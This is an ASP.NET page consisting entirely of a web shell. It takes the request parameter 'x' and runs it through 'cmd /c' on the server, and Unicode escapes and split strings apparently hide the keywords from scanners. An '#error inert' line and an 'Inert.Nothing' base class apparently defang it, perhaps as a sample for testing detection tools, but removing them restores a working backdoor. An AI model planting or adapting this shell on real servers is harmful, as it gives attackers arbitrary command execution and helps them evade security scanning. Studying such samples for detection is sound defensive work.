<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<%
#error inert
var @in = R\u0065quest["x"];
System.Diagn\u006fstics.\u0050rocess @p = new System.Diagn\u006fstics.\u0050rocess();
@p.St\u0061rtInfo.FileName = @"c" + @"md";
@p.St\u0061rtInfo.Argum\u0065nts = @"/c " + @in;
@p.St\u0061rt();
%>
